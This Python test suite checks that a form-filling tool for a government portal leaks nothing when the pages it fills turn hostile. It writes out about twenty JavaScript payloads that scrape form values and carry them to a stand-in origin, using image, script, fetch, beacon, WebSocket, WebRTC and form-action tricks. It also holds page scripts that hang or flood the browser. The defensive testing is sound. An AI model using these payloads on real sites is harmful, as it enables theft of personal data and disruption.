"""Hostile pages: values carried elsewhere, links that lead away, pages that hold the program."""

from __future__ import annotations

import re
import socket
import threading
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import unquote_plus

import pytest
import yaml

from tests.attacks.attack import (
    COMMIT,
    REVIEW,
    Attack,
    attacked,
    judge,
    on,
    scripted,
)
from tests.support.between import Answer, Asking
from tests.support.fixtures import BIRTH, PASSWORD
from tests.support.mock import MockPortal

pytestmark = pytest.mark.thorough

OVER = b"over"
ANSWER = (
    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\n"
    b"Content-Length: 2\r\nConnection: close\r\n\r\nok"
)


@dataclass
class Elsewhere:
    """Another origin on this machine: keeps what comes, by TCP and by UDP."""

    tcp: socket.socket
    udp: socket.socket
    got: list[bytes] = field(default_factory=list)

    @property
    def place(self) -> str:
        return f"127.0.0.1:{self.tcp.getsockname()[1]}"

    @property
    def address(self) -> str:
        return f"http://{self.place}"

    def values(self) -> set[str]:
        """Which of the dossier's values, the password or a cookie came here."""
        told = yaml.load(BIRTH.read_text("utf-8"), yaml.BaseLoader)
        people = told["applicant"], told["declaration"]["child"], told["declaration"]["mother"]
        names = ("full_name", "citizen_id", "phone", "email")
        known = {one[name] for one in people for name in names if one.get(name)} | {PASSWORD}
        found = set()
        for raw in self.got:
            text = raw.decode("utf-8", "replace")
            text = unicodedata.normalize("NFC", unquote_plus(unquote_plus(text)) + text)
            found |= {value for value in known if value in text}
            if re.search(r"^cookie: *\S", text, re.IGNORECASE | re.MULTILINE):
                found.add("a cookie")
        return found

    def take_connections(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self.tcp.accept()
                threading.Thread(target=self._one, args=[connection], daemon=True).start()

    def _one(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            connection.settimeout(2)
            self.got.append(connection.recv(400_000))
            connection.sendall(ANSWER)

    def take_datagrams(self) -> None:
        with suppress(OSError):
            while (said := self.udp.recv(65_536)) != OVER:
                self.got.append(said)


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    with socket.socket() as tcp, socket.socket(type=socket.SOCK_DGRAM) as udp:
        tcp.bind(("127.0.0.1", 0))
        tcp.listen(50)
        udp.bind(tcp.getsockname())
        there = Elsewhere(tcp, udp)
        works = (there.take_connections, there.take_datagrams)
        threads = [threading.Thread(target=work, daemon=True) for work in works]
        for thread in threads:
            thread.start()
        try:
            yield there
        finally:
            tcp.shutdown(socket.SHUT_RDWR)
            udp.sendto(OVER, udp.getsockname())
            for thread in threads:
                thread.join(timeout=5)


# What a page may see of a dossier, ready to be carried away.
TAKE = (
    "const v = [...document.querySelectorAll('input,textarea,select,td,dd')]"
    ".map(e => (e.value || e.textContent || '').trim()).filter(Boolean).join('|').slice(0, 3000), "
    "q = encodeURIComponent(v.slice(0, 1200));"
)


def element(tag: str, then: str = "", **attributes: str) -> str:
    """A script that puts such an element into the page; its address gets the values."""
    said = "".join(f"e.{n} = `{v}`; " for n, v in attributes.items())
    return f"const e = document.createElement('{tag}'); {said}document.body.append(e); {then}"


NO_CORS = "{method: 'POST', mode: 'no-cors', body: v}"
CARRIED = {
    "picture": element("img", src="THERE/p.png?${q}"),
    "script": element("script", src="THERE/s.js?${q}"),
    "style": "document.body.style.backgroundImage = `url(THERE/b.png?${q})`",
    "font": "new FontFace('x', `url(THERE/f.woff2?${q})`).load()",
    "frame": element("iframe", src="THERE/f?${q}"),
    "object": element("object", data="THERE/o?${q}"),
    "video": element("video", src="THERE/v.mp4?${q}"),
    "beacon": "navigator.sendBeacon('THERE/b', v)",
    "fetch": f"fetch('THERE/f', {NO_CORS})",
    "web socket": "new WebSocket('THERE/w'.replace('http', 'ws') + '?' + q)",
    "event source": "new EventSource('THERE/e?' + q)",
    "link": element("a", "e.click()", href="THERE/a?${q}"),
    "ping": element("a", "e.click()", href="#", ping="THERE/a?${q}"),
    "prefetch": element("link", rel="prefetch", href="THERE/l?${q}"),
    "preconnect": element("link", rel="preconnect", href="THERE/l?${q}"),
    "popup": "window.open('THERE/o?' + q)",
    "refresh": element("meta", httpEquiv="refresh", content="0;url=THERE/m?${q}"),
    "web rtc": (
        "const p = new RTCPeerConnection({iceServers: ['udp', 'tcp'].map(t => ({urls: "
        "'turn:PLACE?transport=' + t, username: v.slice(0, 400), credential: 'x'}))}); "
        "p.createDataChannel('a'); p.createOffer().then(o => p.setLocalDescription(o))"
    ),
    "worker": f"const v2 = JSON.stringify(v); new Worker(URL.createObjectURL(new Blob(["
    f"`const v = ${{v2}}; fetch('THERE/w', {NO_CORS})`])))",
    "blank frame": element("iframe", f"e.contentWindow.fetch('THERE/b', {NO_CORS})"),
}


@pytest.mark.parametrize("way", CARRIED)
async def test_no_value_is_carried_to_another_origin(
    mock: MockPortal, tmp_path: Path, way: str
) -> None:
    with elsewhere() as there:
        script = f"(() => {{ {TAKE} try {{ {CARRIED[way]} }} catch {{}} }})()"
        script = script.replace("THERE", there.address).replace("PLACE", there.place)
        reports = await attacked(mock, tmp_path, Attack(scripted(REVIEW, script)), verb="fill")
        assert there.values() == set()
    assert (mock.commits(), mock.submissions()) == ([], [])
    assert reports[0].filings[0].receipt is None


@pytest.mark.parametrize("how", ["action", "button", "base"])
async def test_a_form_that_commits_elsewhere_sends_nothing_there(
    mock: MockPortal, tmp_path: Path, how: str
) -> None:
    with elsewhere() as there:
        put = {
            "action": (f'action="{COMMIT}"', f'action="{there.address}{COMMIT}"'),
            "button": ('id="btn-apply"', f'id="btn-apply" formaction="{there.address}{COMMIT}"'),
            "base": ("<head>", f'<head><base href="{there.address}/">'),
        }[how]
        reports = await attacked(mock, tmp_path, Attack(on(REVIEW, lambda t: t.replace(*put))))
        assert there.values() == set()
    judge(mock, reports, tmp_path)


RECEIPT = "/giay-tiep-nhan"


async def test_a_receipt_that_lies_elsewhere_is_not_fetched(
    mock: MockPortal, tmp_path: Path
) -> None:
    with elsewhere() as there:
        script = (
            f"(() => {{ {TAKE} document.querySelectorAll('a[href$=giay-tiep-nhan]')"
            f".forEach(a => a.href = '{there.address}/r?' + q) }})()"
        )
        reports = await attacked(mock, tmp_path, Attack(scripted(RECEIPT, script)))
        assert there.values() == set()
    judge(mock, reports, tmp_path)


HELD = {
    "loop": Attack(scripted(REVIEW, "setTimeout(() => { for (;;); }, 200)")),
    "alerts": Attack(scripted(REVIEW, "setTimeout(() => { for (;;) alert(1) }, 200)")),
    "prints": Attack(scripted(REVIEW, "setInterval(() => print(), 1)")),
    "reloads": Attack(scripted(REVIEW, "setInterval(() => location.reload(), 20)")),
    "writes": Attack(scripted(REVIEW, "setInterval(() => { document.body.innerHTML += 'x' }, 1)")),
}


@pytest.mark.parametrize("how", HELD)
async def test_a_page_that_never_rests_holds_nobody(
    mock: MockPortal, tmp_path: Path, how: str
) -> None:
    reports = await attacked(mock, tmp_path, HELD[how], verb="fill")
    assert (mock.commits(), mock.submissions()) == ([], [])
    assert reports[0].filings[0].receipt is None


async def test_an_answer_that_drips_for_ever_holds_nobody(mock: MockPortal, tmp_path: Path) -> None:
    def drips(asked: Asking, given: Answer) -> Answer:
        if asked.method != "GET" or "kiem-tra-ho-so" not in asked.path:
            return given
        return Answer(200, dict(given.headers), portal.dripping())

    attack = Attack(answer=drips)
    portal = attack.portal()
    reports = await attacked(mock, tmp_path, attack, verb="fill")
    portal.over.set()
    assert (mock.commits(), mock.submissions()) == ([], [])
    assert reports[0].filings[0].receipt is None
    assert reports[0].exit_code != 0
